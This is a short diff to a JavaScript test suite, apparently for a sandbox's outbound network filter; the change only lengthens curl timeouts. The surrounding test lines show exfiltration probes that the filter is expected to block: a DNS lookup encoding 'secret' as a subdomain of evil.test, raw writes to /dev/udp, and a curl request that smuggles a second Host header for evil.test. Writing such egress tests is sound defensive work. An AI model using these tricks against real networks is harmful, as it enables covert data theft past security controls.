@@ -31,7 +31,7 @@ async function sh(sandbox, command) {
   const result = await sandbox.commands.run(`${command}; true`, { timeoutMs: 30_000 });
   return result.stdout.trim();
 }
-const curl = (sandbox, ...words) => sh(sandbox, `curl -sS -m 5 ${words.join(" ")} 2>&1`);
+const curl = (sandbox, ...words) => sh(sandbox, `curl -sS -m 20 ${words.join(" ")} 2>&1`);
 function filesBelow(dir) {
   return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
     const path = join(dir, entry.name);
@@ -68,7 +68,7 @@ test("C4 names, UDP and other resolvers are no way around", async () => {
   assert.equal(await sh(sandbox, "getent ahostsv4 c2VjcmV0.evil.test || echo none"), "none");
   await sh(sandbox, `echo quic > /dev/udp/${ORIGIN}/443; echo dns > /dev/udp/${ORIGIN}/53`);
   // One connection, two hosts: the second is refused.
-  const out = await curl(sandbox, "http://api.test/one --next -sS -m 5 -H 'Host: evil.test' http://api.test/two");
+  const out = await curl(sandbox, "http://api.test/one --next -sS -m 20 -H 'Host: evil.test' http://api.test/two");
   assert.match(out, /^http api\.test \/one[\s\S]*another host/);
   const heard = await outside.heard();
   assert.deepEqual(
